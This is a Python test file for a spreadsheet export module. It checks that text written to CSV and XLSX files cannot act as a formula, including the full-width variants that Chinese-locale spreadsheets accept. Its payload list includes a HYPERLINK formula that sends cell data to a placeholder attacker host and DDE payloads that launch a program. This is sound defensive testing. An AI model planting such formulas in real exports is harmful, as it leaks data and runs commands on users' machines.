"""Formula injection (issue 14, item 3): no text written into a CSV or XLSX export can act as a formula.

Every prefix a spreadsheet reads as a formula (OWASP's CSV-injection list, after leading spaces too,
and the full-width forms Excel and WPS accept in Chinese locales) in every column of both tables,
read back with the csv module and openpyxl; numbers, negative ones too, stay numbers.
"""

from __future__ import annotations

import csv
import io
from typing import Any

import pytest
from openpyxl import load_workbook

from sync.outputs.exports import ANSWER_COLUMNS, INSPECTION_COLUMNS
from sync.outputs.tables import csv_chunks, neutralise, xlsx_chunks

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?"&A1,"点击")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "   =1+1",
    "\u3000=1+1",  # an ideographic space first
    "＝1＋1",
    "＋1",
    "－1",
    "＠SUM(A1)",
]
TABLES = {"inspections": INSPECTION_COLUMNS, "answers": ANSWER_COLUMNS}


def rows(columns: list[str]) -> list[list[Any]]:
    """One row per payload per column: the payload in that column, plain text elsewhere."""
    return [
        [payload if i == n else f"{column}-值" for i, column in enumerate(columns)]
        for n in range(len(columns))
        for payload in PAYLOADS
    ]


def read_csv(header: list[str], body: list[list[Any]]) -> list[list[str]]:
    text = b"".join(csv_chunks(header, iter(body))).decode("utf-8-sig")
    return list(csv.reader(io.StringIO(text)))[1:]


def read_xlsx(header: list[str], body: list[list[Any]]) -> list[list[Any]]:
    sheet = load_workbook(io.BytesIO(b"".join(xlsx_chunks("t", header, iter(body)))))["t"]
    cells = list(sheet.iter_rows(min_row=2))
    assert all(c.data_type != "f" for row in cells for c in row)
    return [[c.value for c in row] for row in cells]


@pytest.mark.parametrize("table", TABLES)
def test_every_formula_prefix_in_every_csv_column_is_neutralised(table: str) -> None:
    columns = TABLES[table]
    body = rows(columns)
    for sent, got in zip(body, read_csv(columns, body), strict=True):
        assert got == ["'" + v if v in PAYLOADS else v for v in sent]


@pytest.mark.parametrize("table", TABLES)
def test_every_formula_prefix_in_every_xlsx_column_is_text_not_a_formula(table: str) -> None:
    columns = TABLES[table]
    body = rows(columns)
    for sent, got in zip(body, read_xlsx(columns, body), strict=True):
        # XML reads a bare carriage return back as a line feed; the text stays neutralised
        assert got == [("'" + v if v in PAYLOADS else v).replace("\r", "\n") for v in sent]


def test_text_fields_are_quoted_and_numbers_stay_numbers() -> None:
    body: list[list[Any]] = [["-18", -18, -10.5, 3, True, None, "冷柜"]]
    text = b"".join(csv_chunks(list("abcdefg"), iter(body))).decode("utf-8-sig")
    assert text.splitlines()[1] == '"\'-18",-18,-10.5,3,True,"","冷柜"'
    sheet = load_workbook(io.BytesIO(b"".join(xlsx_chunks("t", list("abcdefg"), iter(body)))))["t"]
    values = [(c.value, c.data_type) for c in next(sheet.iter_rows(min_row=2))]
    assert values[:4] == [("'-18", "s"), (-18, "n"), (-10.5, "n"), (3, "n")]


def test_plain_text_is_left_alone() -> None:
    for text in ["冷柜偏高", "A-01", "a=b", "1+1", "", "  ok", "user@example.cn"]:
        assert neutralise(text) == text


def test_text_xml_cannot_hold_does_not_break_the_workbook() -> None:
    body: list[list[Any]] = [["bell\x07 and\x00 nul", "=1"]]
    sheet = load_workbook(io.BytesIO(b"".join(xlsx_chunks("t", ["a", "b"], iter(body)))))["t"]
    assert [c.value for c in next(sheet.iter_rows(min_row=2))] == ["bell\ufffd and\ufffd nul", "'=1"]
